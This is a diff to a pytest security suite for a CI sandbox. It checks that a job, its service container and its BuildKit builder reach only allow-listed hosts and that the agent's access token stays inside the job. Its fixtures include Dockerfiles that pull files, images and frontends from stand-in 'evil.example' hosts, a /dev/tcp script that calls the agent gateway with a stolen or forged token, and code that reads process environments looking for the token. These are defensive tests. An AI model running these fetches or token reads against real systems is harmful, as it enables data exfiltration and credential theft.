@@ -1,6 +1,7 @@
-"""A job with a list of what it reaches, and beside it a service container and a BuildKit.
+"""A job with a list of what it reaches and a gateway, beside a service container and a BuildKit.
 
-Each of the three gets its names from the job's resolver, and reaches what the list has.
+Each of the three gets its names from the job's resolver, and reaches what the list has; none but
+the job has the gateway's token.
 """
 
 import os
@@ -12,22 +13,28 @@ from pathlib import Path
 
 import pytest
 
+from bootstrap.sandbox import confinement
 from tests.attacks.attacker import Attacker, attacker, run
+from tests.attacks.in_prepared_networks import holder_of, served
 from tests.attacks.outside import EVIL, EVIL_RESOLVER, Outside, outside
-from tests.attacks.test_image_builds import ROOTFS, builders_container, in_step
+from tests.attacks.test_image_builds import BUILD, ROOTFS, builders_container, in_step
 from tests.attacks.test_services import SERVE, service_of
-from tests.lab import builder, launcher
+from tests.lab import builder, launcher, world
 from tests.lab.engine import ended, eventually
 from tests.lab.lab import DELETE_RULESET, Lab, fleet
 from tests.lab.leftovers import leftovers
 
 pytestmark = pytest.mark.lab
 
-RULE = """  - name: all
+RULE = """  - name: open
+    when: {{branch: open}}
+    allow: {{builds: buildkit, image: '{clients}'}}
+  - name: all
     allow:
       builds: buildkit
       image: '{clients}'
-      egress: {{hosts: ["*.allowed.example"]}}
+      agent-api: {{calls: meta-data}}
+      egress: {{hosts: ["*.allowed.example"], private: [{world}/32]}}
       services: {{web: {{image: '{image}', command: {serve}, ready: http:8000}}}}
 """
 Tries = Callable[[str], str]
@@ -39,17 +46,36 @@ def hosts() -> Iterator[Outside]:
         yield made
 
 
-@pytest.fixture(scope="module")
-def job(lab: Lab, hosts: Outside, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacker]:
+@pytest.fixture(scope="module", params=["own network", "prepared network"])
+def job(
+    lab: Lab,
+    hosts: Outside,
+    tmp_path_factory: pytest.TempPathFactory,
+    request: pytest.FixtureRequest,
+) -> Iterator[Attacker]:
     launcher.builder()
     clients = builder.clients_image(lab.docker, lab.image)
     settings = f'[builds]\nimage = "{builder.builder_image(lab.docker, lab.image)}"\n'
-    with fleet(lab, tmp_path_factory.mktemp("beside") / "fleet", settings=settings) as made:
-        made.policy(RULE.format(clients=clients, image=lab.image, serve=SERVE))
+    opened = fleet if request.param == "own network" else served
+    with opened(lab, tmp_path_factory.mktemp("beside") / "fleet", settings=settings) as made:
+        made.policy(RULE.format(clients=clients, image=lab.image, serve=SERVE, world=world.WORLD))
         with attacker(made) as running:
-            prepared = running.tries(ROOTFS, 60)
-            assert prepared.returncode == 0, prepared.stderr
-            yield running
+            if opened is served:
+                assert holder_of(running).is_dir()
+            yield with_programs(running)
+
+
+def with_programs(job: Attacker) -> Attacker:
+    """Make what the steps of its Dockerfiles run."""
+    prepared = job.tries(ROOTFS, 60)
+    assert prepared.returncode == 0, prepared.stderr
+    return job
+
+
+@pytest.fixture(scope="module")
+def unlisted(job: Attacker) -> Iterator[Attacker]:
+    with attacker(job.fleet, BUILDKITE_BRANCH="open") as running:
+        yield with_programs(running)
 
 
 @pytest.fixture(params=["job", "service", "step"])
@@ -82,6 +108,93 @@ def test_nothing_else_is_reached(place: Tries, hosts: Outside) -> None:
     assert "tried" in place(script)
     assert not hosts.has(mark)
     assert not hosts.was_asked(mark)
+
+
+# What BuildKit fetches by itself, in no step. MARK is in what arrives, or in what is asked for.
+PULLS = {
+    "a file from an address": f"FROM scratch\\nADD http://{EVIL}/MARK /x",
+    "a file from a name": "FROM scratch\\nADD http://MARK.evil.example/x /x",
+    "an image": "FROM MARK.evil.example/image",
+    "a frontend": "# syntax=MARK.evil.example/frontend\\nFROM scratch",
+}
+
+
+def build(job: Attacker, dockerfile: str) -> str:
+    script = f"mkdir -p /tmp/b; cd /tmp/b; printf '{dockerfile}\\n' >Dockerfile; {BUILD} 2>&1"
+    return job.tries(script, 60).stdout
+
+
+@pytest.mark.parametrize("what", PULLS)
+def test_buildkit_fetches_nothing_from_elsewhere(
+    what: str, job: Attacker, unlisted: Attacker, hosts: Outside
+) -> None:
+    marks = [uuid.uuid4().hex[:16] for _ in range(2)]
+    output = build(unlisted, PULLS[what].replace("MARK", marks[0]))
+    assert hosts.has(marks[0]) or hosts.was_asked(marks[0]), f"without a list: {output}"
+    output = build(job, PULLS[what].replace("MARK", marks[1]))
+    assert marks[1] in output
+    assert not hosts.has(marks[1])
+    assert not hosts.was_asked(marks[1])
+
+
+def test_buildkit_fetches_what_the_list_has(job: Attacker, hosts: Outside) -> None:
+    mark = uuid.uuid4().hex[:16]
+    output = build(job, f"FROM scratch\\nADD http://git.allowed.example/{mark} /x")
+    assert hosts.has(mark), output
+
+
+def test_buildkit_follows_no_redirect_to_elsewhere(
+    job: Attacker, unlisted: Attacker, hosts: Outside
+) -> None:
+    """The list has the host that redirects."""
+    redirect = f"FROM scratch\\nADD http://git.allowed.example/redirect?{uuid.uuid4().hex} /x"
+    output = build(job, redirect)
+    assert not hosts.has("stolen"), output
+    output = build(unlisted, redirect)
+    assert hosts.has("stolen"), output
+
+
+CALL = """
+exec 3<>/dev/tcp/127.0.0.1/{port}
+say() {{ printf '%s\\r\\n' "$1" >&3; }}
+say 'POST /jobs/{job}/data/keys HTTP/1.1'; say 'Host: a'; say 'Authorization: Token {token}'
+say 'Content-Type: application/json'; say 'Content-Length: 2'; say 'Connection: close'; say ''
+printf '{{}}' >&3
+read -r line <&3; echo "answer: $line"
+"""
+
+
+def test_only_the_job_has_the_token_of_its_gateway(place: Tries, job: Attacker) -> None:
+    """Whoever is told the token may call: nothing but that keeps the others out."""
+    said = job.tries("echo $BUILDKITE_AGENT_ENDPOINT $BUILDKITE_AGENT_ACCESS_TOKEN").stdout
+    endpoint, token = said.split()
+    port = endpoint.rpartition(":")[2]
+    answers = [
+        place(CALL.format(port=port, job=job.job.id, token=one))
+        for one in (token, f"{token[:-4]}aaaa")
+    ]
+    assert "answer: HTTP/1.1 200" in answers[0]
+    assert "answer: HTTP/1.1 401" in answers[1]
+
+
+def test_the_token_is_in_nothing_beside_the_job(job: Attacker) -> None:
+    token = job.tries("printf %s $BUILDKITE_AGENT_ACCESS_TOKEN").stdout
+    docker = ("docker", "-H", job.fleet.lab.docker)
+    service = service_of(job)
+    first = int(run(*docker, "inspect", "-f", "{{.State.Pid}}", builders_container(job)))
+    assert token in environments(job.pid), "the search finds it where it is"
+    for name, pid in ((service.container, service.pid), (builders_container(job), first)):
+        assert token not in environments(pid)
+        assert token not in run(*docker, "inspect", name)
+
+
+def environments(first: int) -> str:
+    """Return the environments of all processes of a container."""
+    found = ""
+    for pid in confinement.members(first):
+        with suppress(OSError):
+            found += Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
+    return found
 
 
 LISTEN = """
